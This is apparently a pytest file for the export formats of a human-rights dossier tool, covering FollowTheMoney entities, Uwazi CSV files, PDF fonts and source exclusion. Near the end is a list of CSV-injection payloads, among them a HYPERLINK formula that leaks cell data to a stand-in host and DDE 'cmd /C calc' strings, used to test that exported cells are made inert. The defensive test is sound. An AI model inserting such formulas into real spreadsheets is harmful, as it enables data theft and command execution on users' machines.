"""Every format of an export: FollowTheMoney entities valid under the followthemoney library, CSV that Uwazi
imports, and not a trace of an excluded source in any file (reviewer/exports/ftm.py, csv_export.py,
bundle.py)."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess

import nacl.signing
import pytest
from flask import Flask
from followthemoney import model

from core import db
from reviewer.exports import bundle, csv_export, dossier

#: Per purpose: the sources that must not appear anywhere (their refs and their envelopes' digests).
EXCLUDED = {
    "sanctions": ("W-0003", "W-0004", "unattributed"),
    "public": ("W-0002", "W-0004", "unattributed"),
}


def _files(app: Flask, kind: str, target_id: int, purpose: str, formats: tuple[str, ...]) -> dict[str, bytes]:
    with app.app_context():
        built = dossier.build(db.session(), kind, target_id, purpose, actor_login="kim")
        return bundle.make(built, formats, ("ko", "en"), nacl.signing.SigningKey.generate()).files


def _has_pdf() -> bool:
    try:
        from reviewer.exports import pdf  # noqa: F401
    except ImportError:
        return False
    return shutil.which("pdftotext") is not None


def _text(name: str, content: bytes) -> str:
    if name.endswith(".pdf"):
        result = subprocess.run(["pdftotext", "-", "-"], input=content, capture_output=True, check=True)  # noqa: S603, S607
        return result.stdout.decode("utf-8")
    return content.decode("utf-8", errors="replace")


@pytest.mark.parametrize("purpose", ["sanctions", "public"])
@pytest.mark.parametrize("kind", ["person", "organization", "facility"])
def test_excluded_sources_appear_in_no_file_of_any_format(app, records, kind, purpose):
    target_id = {
        "person": records.person_id,
        "organization": records.ministry_id,
        "facility": records.facility_id,
    }
    formats = ("pdf", "ftm", "csv") if _has_pdf() else ("ftm", "csv")
    files = _files(app, kind, target_id[kind], purpose, formats)
    with app.app_context():
        from core.models import Submission

        submission_ids = list(
            db.session().scalars(Submission.__table__.select().with_only_columns(Submission.id))
        )
    for name, content in files.items():
        text = _text(name, content) if name != "manifest.sig" else ""
        for excluded in EXCLUDED[purpose]:
            if excluded != "unattributed":
                assert excluded not in text, (name, excluded)
            for digest in records.digests[excluded]:
                assert digest not in text, (name, excluded)
        for submission_id in submission_ids:  # internal ids never travel
            assert submission_id not in text, name


def test_included_sources_and_digests_do_appear(app, records):
    files = _files(app, "person", records.person_id, "sanctions", ("ftm", "csv"))
    everything = b"".join(files.values()).decode("utf-8", errors="replace")
    for ref in ("W-0001", "W-0002"):
        assert ref in everything
    assert records.digests["W-0001"][0] in everything


def test_ftm_entities_are_valid_under_the_followthemoney_library(app, records):
    for kind, target_id in (
        ("person", records.person_id),
        ("organization", records.county_bureau_id),
        ("facility", records.facility_id),
    ):
        lines = _files(app, kind, target_id, "sanctions", ("ftm",))["entities.ftm.json"].decode().splitlines()
        schemata = set()
        for line in lines:
            data = json.loads(line)
            schema = model.get(data["schema"])
            assert schema is not None
            schema.validate(data)  # raises InvalidData
            proxy = model.get_proxy(data, cleaned=False)
            assert proxy.to_dict()["properties"] == data["properties"], line
            for prop, values in data["properties"].items():
                assert schema.get(prop) is not None, (data["schema"], prop)
                assert values, (data["schema"], prop)
            for prop in schema.required:
                assert data["properties"].get(prop), (data["schema"], prop)
            schemata.add(data["schema"])
        if kind == "person":
            assert {
                "Person",
                "PublicBody",
                "Position",
                "Occupancy",
                "Event",
                "Document",
                "Address",
            } <= schemata
            assert "Sanction" in schemata  # proposed, for a sanctions submission only


def test_ftm_links_the_chain_of_command_and_the_evidence(app, records):
    lines = _files(app, "person", records.person_id, "sanctions", ("ftm",))["entities.ftm.json"].decode()
    entities = [json.loads(line) for line in lines.splitlines()]
    by_id = {e["id"]: e for e in entities}
    person = next(e for e in entities if e["schema"] == "Person" and "리창대" in e["properties"]["name"])
    assert set(person["properties"]["name"]) == {"리창대", "Ri Chang Dae", "Lee Chang-dae"}
    assert person["properties"]["weakAlias"] == ["Ri Chang-de"]
    assert person["properties"]["birthDate"] == ["1961-04"]
    assert person["properties"]["passportNumber"] == ["745123456"]
    county = next(e for e in entities if "회령시 보위부" in e["properties"].get("name", []))
    province = by_id[county["properties"]["parent"][0]]
    assert "함경북도 보위국" in province["properties"]["name"]
    assert "국가보위성" in by_id[province["properties"]["parent"][0]]["properties"]["name"]
    event = next(e for e in entities if e["schema"] == "Event")
    assert person["id"] in event["properties"]["involved"]
    titles = {by_id[doc]["properties"]["title"][0] for doc in event["properties"]["proof"]}
    assert titles == {"W-0001", "W-0002"}
    sanctions = [e for e in entities if e["schema"] == "Sanction"]
    assert sanctions and all(e["properties"]["status"] == ["proposed"] for e in sanctions)
    public = _files(app, "person", records.person_id, "public", ("ftm",))["entities.ftm.json"].decode()
    assert '"Sanction"' not in public


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def test_csv_has_one_file_per_uwazi_template_with_the_evidence_by_source(app, records):
    files = _files(app, "person", records.person_id, "sanctions", ("csv",))
    assert set(csv_export.FILES) <= set(files)
    acts = _rows(files["acts.csv"])
    assert len(acts) == 1
    assert acts[0]["victims"] == "V-1 V-2" and acts[0]["date"] == "2017-03-01:2017-03-31"
    assert acts[0]["date_as_recorded"] == "2017-03" and acts[0]["title"]
    target = next(row for row in _rows(files["persons.csv"]) if row["hangul_names"] == "리창대")
    assert (target["title__ko"], target["title__en"]) == ("리창대", "Ri Chang Dae")
    assert target["dprk_romanization"] == "Ri Chang Dae" and target["weak_aliases"] == "Ri Chang-de"
    assert target["birth_date"] == "1961-04-01:1961-04-30" and target["nationality"] == "North Korea"
    sources = _rows(files["sources.csv"])
    assert [row["title"] for row in sources] == ["W-0001", "W-0002"]
    assert all(row["acts_supported"] == acts[0]["title"] for row in sources)
    involved = {row["person"] for row in _rows(files["involvements.csv"])}
    assert involved == {"Ri Chang Dae", "Choe Min Su"}
    for name in csv_export.FILES[:-2]:
        assert files[name].decode("utf-8").startswith("title")


@pytest.mark.skipif(not _has_pdf(), reason="reviewer/exports/pdf.py or pdftotext is not available")
def test_the_korean_pdf_holds_the_hangul_names_with_every_font_embedded(app, records, tmp_path):
    files = _files(app, "person", records.person_id, "sanctions", ("pdf",))
    assert "리창대" in _text("dossier-ko.pdf", files["dossier-ko.pdf"])
    path = tmp_path / "dossier-ko.pdf"
    path.write_bytes(files["dossier-ko.pdf"])
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, check=True, text=True).stdout  # noqa: S603, S607
    rows = fonts.splitlines()[2:]
    assert rows and all(row.split()[-5] == "yes" for row in rows), fonts


#: What a spreadsheet would run (OWASP, CSV Injection), as a name or place could carry it.
FORMULAS = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_csv_cells_that_could_start_a_formula_are_inert_and_still_read(app, records, payload):
    with app.app_context():
        from reviewer.records.models import Person, PersonName

        session = db.session()
        session.get(Person, records.person_id).birth_place = payload
        session.add(
            PersonName(person_id=records.person_id, name=payload, style="other", kind="alias", quality="weak")
        )
        session.commit()
    files = _files(app, "person", records.person_id, "sanctions", ("csv",))
    for name in csv_export.FILES:
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(files[name].decode("utf-8"), newline="")):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    target = next(row for row in _rows(files["persons.csv"]) if row["hangul_names"] == "리창대")
    # Read back: one leading apostrophe is all that was added (docs/exports.md).
    assert target["birth_place"] == "'" + payload
    # On a later line of a several-valued cell it is not at the start, so it stays as it was.
    assert target["weak_aliases"].split("\n")[-1] == payload
    # Cells that cannot start a formula are untouched.
    assert target["hangul_names"] == "리창대" and target["birth_date"] == "1961-04-01:1961-04-30"
